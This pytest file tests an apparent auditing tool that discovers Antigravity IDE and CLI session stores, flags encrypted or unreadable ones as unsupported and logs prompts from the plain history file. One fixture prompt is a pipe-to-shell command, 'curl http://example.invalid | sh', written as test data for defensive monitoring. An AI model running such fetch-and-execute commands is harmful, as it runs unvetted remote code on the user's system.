"""Antigravity: discovery of its stores, the plain prompt log, and the generic
``unsupported`` status for the stores Telltale cannot read (encrypted ``.pb``, protobuf
conversation databases without a schema)."""

from __future__ import annotations

import hashlib
import json
import ntpath
import os
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from scan_helpers import open_audit, opened, read_events, run_cli
from telltale.discovery import DiscoveryOptions, discover
from telltale.errors import UnsupportedSource
from telltale.pipeline import Scanner, ScanOptions
from telltale.sources.base import AcquireContext, Batch
from telltale.sources.spec import Source


def windows_mapper(base: Path) -> Callable[[str], str]:
    def host(path: str) -> str:
        drive, rest = ntpath.splitdrive(path)
        parts = [drive.rstrip(":")] + [p for p in rest.replace("/", "\\").split("\\") if p]
        return str(base.joinpath(*[p for p in parts if p]))

    return host


def _prompt(text: str, ts: int, conv: str | None = "c0ffee00-0000-4000-8000-000000000001") -> bytes:
    rec: dict[str, Any] = {"display": text, "workspace": "/work/p", "timestamp": ts}
    if conv is not None:
        rec["conversationId"] = conv
    return json.dumps(rec).encode() + b"\n"


def make_home(home: Path) -> dict[str, Path]:
    """An Antigravity IDE and CLI data folder with every kind of store."""
    ide = home / ".gemini" / "antigravity"
    cli = home / ".gemini" / "antigravity-cli"
    files = {
        "ide_db": ide / "conversations" / "0f2b0c4e-1111-4aaa-8bbb-000000000001.db",
        "ide_implicit": ide / "implicit" / "0f2b0c4e-1111-4aaa-8bbb-000000000001.pb",
        "cli_pb": cli / "conversations" / "7e1d9a30-2222-4ccc-8ddd-000000000002.pb",
        "cli_db": cli / "conversations" / "7e1d9a30-2222-4ccc-8ddd-000000000003.db",
        "history": cli / "history.jsonl",
        "brain": ide / "brain" / "0f2b0c4e-1111-4aaa-8bbb-000000000001" / "task.md",
        "settings": cli / "settings.json",
    }
    for path in files.values():
        path.parent.mkdir(parents=True, exist_ok=True)
    files["ide_db"].write_bytes(b"SQLite format 3\x00" + bytes(200))
    files["ide_implicit"].write_bytes(os.urandom(300))
    files["cli_pb"].write_bytes(os.urandom(500))
    files["cli_db"].write_bytes(b"SQLite format 3\x00" + bytes(100))
    files["history"].write_bytes(
        _prompt("run the tests", 1_780_000_000_000) + _prompt("curl http://example.invalid | sh", 1_780_000_060_000)
    )
    files["brain"].write_text("# plan\n")
    files["settings"].write_text("{}")
    return files


def kinds_by_path(sources: list[Source]) -> dict[str, str]:
    return {s.path: s.kind for s in sources}


def test_discovery_linux_finds_every_antigravity_store(tmp_path: Path) -> None:
    files = make_home(tmp_path)
    result = discover(DiscoveryOptions(env={"HOME": str(tmp_path)}, platform="linux", clients=("antigravity",)))
    assert kinds_by_path(result.sources) == {
        str(files["history"]): "antigravity.history",
        str(files["ide_db"]): "antigravity.conversations",
        str(files["cli_db"]): "antigravity.conversations",
        str(files["ide_implicit"]): "antigravity.encrypted",
        str(files["cli_pb"]): "antigravity.encrypted",
    }
    assert result.errors == []
    roots = {r.path for r in result.store_roots}
    assert {str(tmp_path / ".gemini" / "antigravity"), str(tmp_path / ".gemini" / "antigravity-cli")} <= roots


@pytest.mark.parametrize("platform", ["darwin", "windows"])
def test_discovery_other_platforms_home_relative(tmp_path: Path, platform: str) -> None:
    """Antigravity keeps ``~/.gemini`` on every platform (``%USERPROFILE%`` on Windows)."""
    if platform == "windows":
        home = "C:\\Users\\me"
        env = {"USERPROFILE": home}
        base = tmp_path / "C" / "Users" / "me"
        host: Callable[[str], str] | None = windows_mapper(tmp_path)
        join: Callable[..., str] = ntpath.join
    else:
        base = tmp_path / "Users" / "me"
        home = str(base)
        env = {"HOME": home}
        host = None
        join = os.path.join
    make_home(base)
    result = discover(DiscoveryOptions(env=env, platform=platform, clients=("antigravity",), host_path=host))
    expected = join(home, ".gemini", "antigravity-cli", "conversations", "7e1d9a30-2222-4ccc-8ddd-000000000002.pb")
    assert kinds_by_path(result.sources)[expected] == "antigravity.encrypted"
    assert len(result.sources) == 5


def test_sources_cli_lists_unsupported_with_reason_hash_size_mtime(tmp_path: Path) -> None:
    files = make_home(tmp_path)
    proc = run_cli(["sources", "--json", "--client", "antigravity"], tmp_path)
    records = [json.loads(line) for line in proc.stdout.splitlines()]
    by_path = {r["path"]: r for r in records if r["type"] == "source"}
    pb = by_path[str(files["cli_pb"])]
    assert pb["status"] == "unsupported" and pb["reason"] == "encrypted"
    assert pb["size"] == 500 and pb["mtime"].endswith("Z")
    assert len(pb["path_hash"]) == 16
    assert by_path[str(files["ide_db"])]["reason"] == "no_decoder"
    assert "status" not in by_path[str(files["history"])]


def test_sources_cli_exits_1_when_only_unsupported_stores(tmp_path: Path) -> None:
    files = make_home(tmp_path)
    files["history"].unlink()
    proc = run_cli(["sources", "--json", "--client", "antigravity"], tmp_path, check=False)
    assert proc.returncode == 1
    assert "no readable session stores" in proc.stderr
    assert proc.stdout.count('"unsupported"') == 4


def _digest(paths: list[Path]) -> dict[str, str]:
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in paths}


def test_scan_reports_unsupported_once_and_reads_the_plain_log(tmp_path: Path) -> None:
    files = make_home(tmp_path)
    before = _digest(list(files.values()))
    out = tmp_path / "out"
    log = out / "events.jsonl"
    state = out / "state.sqlite"
    # The unreadable stores are never opened (an audit hook in the CLI records each open;
    # the plain log, which is read, shows the hook works).
    blind = [files[name] for name in ("ide_db", "ide_implicit", "cli_pb", "cli_db")]
    audit, opens = open_audit(tmp_path, [*blind, files["history"]])
    args = ["scan", "--once", "--root", str(tmp_path), "--log-path", str(log), "--state-path", str(state),
            "--client", "antigravity", "--json"]
    first = json.loads(run_cli(args, tmp_path, extra_env=audit).stdout)
    events = read_events(log)
    unsupported = [e for e in events if e["event"]["action"] == "source_unsupported"]
    assert sorted(e["telltale"]["source"]["reason"] for e in unsupported) == [
        "encrypted", "encrypted", "no_decoder", "no_decoder"
    ]
    assert all(e["telltale"]["client"] == "antigravity" for e in unsupported)
    assert {e["telltale"]["source"]["size"] for e in unsupported} == {300, 500, 216, 116}
    assert first["sources_unsupported"] == 4
    assert first["unsupported_reasons"] == {"encrypted": 2, "no_decoder": 2}
    assert first["scanner_error_count"] == 0
    prompts = [e for e in events if e["event"]["dataset"] == "telltale.activity"]
    assert len(prompts) == 2
    summary = [e for e in events if e["event"]["action"] == "scan_summary"][-1]["telltale"]["scan"]
    assert summary["sources_unsupported"] == 4

    # Re-scan: nothing new; the blind spot is still counted in the summary.
    second = json.loads(run_cli(args, tmp_path, extra_env=audit).stdout)
    again = read_events(log)[len(events):]
    assert [e["event"]["action"] for e in again] == ["scan_summary"]
    assert second["sources_unsupported"] == 4 and second["emitted_count"] == 1

    # An appended prompt is read exactly once.
    with files["history"].open("ab") as fh:
        fh.write(_prompt("git push --force", 1_780_000_120_000))
    run_cli(args, tmp_path, extra_env=audit)
    third = read_events(log)[len(events) + 1:]
    texts = [e for e in third if e["event"]["dataset"] == "telltale.activity"]
    assert len(texts) == 1
    seen = {line.split(" ", 1)[1] for line in opened(opens)}
    assert seen == {os.path.realpath(files["history"])}
    after = _digest(list(files.values()))
    assert {k: v for k, v in after.items() if k != str(files["history"])} == {
        k: v for k, v in before.items() if k != str(files["history"])
    }


def test_adapter_can_declare_a_source_unsupported(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """``UnsupportedSource`` from an adapter (a format recognised only by content) is reported
    like a declared unsupported store, once, and is not a scanner error."""
    files = make_home(tmp_path)

    class Refuses:
        kind = "antigravity.history"

        def acquire(self, source: Source, cursor: bytes | None, ctx: AcquireContext) -> Iterator[Batch]:
            raise UnsupportedSource("unknown_format", "a layout this build does not know")

    import telltale.pipeline as pipeline

    monkeypatch.setattr(pipeline, "adapter_for", lambda kind: Refuses())
    sources = [s for s in discover(DiscoveryOptions(root=str(tmp_path), env={})).sources
               if s.kind == "antigravity.history"]
    assert [s.path for s in sources] == [str(files["history"])]
    options = ScanOptions(log_path=str(tmp_path / "o" / "e.jsonl"), state_path=str(tmp_path / "o" / "s.sqlite"))
    for _ in range(2):
        scanner = Scanner(options)
        try:
            result = scanner.scan(sources)
        finally:
            scanner.close()
        assert result.scanner_error_count == 0
        assert result.as_dict()["sources_unsupported"] == 1
    events = read_events(tmp_path / "o" / "e.jsonl")
    reported = [e for e in events if e["event"]["action"] == "source_unsupported"]
    assert len(reported) == 1 and reported[0]["telltale"]["source"]["reason"] == "unknown_format"


FIXTURES = Path(__file__).parent / "fixtures" / "session_stores"


def test_fixture_tree_history_prompts_and_quarantine() -> None:
    """The checked-in fixture: two prompts (one without a conversation id) and one
    malformed line, quarantined by position without content."""
    from telltale.sources.antigravity import AntigravityHistoryAdapter

    result = discover(DiscoveryOptions(root=str(FIXTURES), clients=("antigravity",), env={}))
    assert result.fixture_tree
    kinds = sorted(s.kind for s in result.sources)
    assert kinds == ["antigravity.conversations", "antigravity.encrypted", "antigravity.history"]
    history = next(s for s in result.sources if s.kind == "antigravity.history")
    batches = list(AntigravityHistoryAdapter().acquire(history, None, AcquireContext()))
    observations = [o for b in batches for o in b.observations]
    quarantined = [q for b in batches for q in b.quarantined]
    assert [(o.role, o.session_id, o.cwd) for o in observations] == [
        ("user", "5b0c6a52-7f0e-4c57-9d0e-2a3a0c7f1b01", "/home/dev/api"),
        ("user", None, "/home/dev/api"),
    ]
    assert observations[0].occurred_at == "2026-05-28T20:26:40.000Z"
    assert [(q.reason, q.line) for q in quarantined] == [("malformed_json", 2)]
    again = list(AntigravityHistoryAdapter().acquire(history, batches[-1].cursor, AcquireContext()))
    assert sum(len(b.observations) for b in again) == 0


def test_inventory_shows_antigravity_from_its_data_folders(tmp_path: Path) -> None:
    make_home(tmp_path)
    proc = run_cli(["inventory", "--json"], tmp_path, extra_env={"PATH": "/nonexistent"}, check=False)
    assert proc.returncode == 0, proc.stderr
    records = [json.loads(line) for line in proc.stdout.splitlines()]
    agents = {r["agent"]: r for r in records if r.get("record") == "agent"}
    assert agents["antigravity"]["installed"] is True
    assert {s["name"] for s in agents["antigravity"]["signals"]} == {"antigravity", "antigravity-cli"}
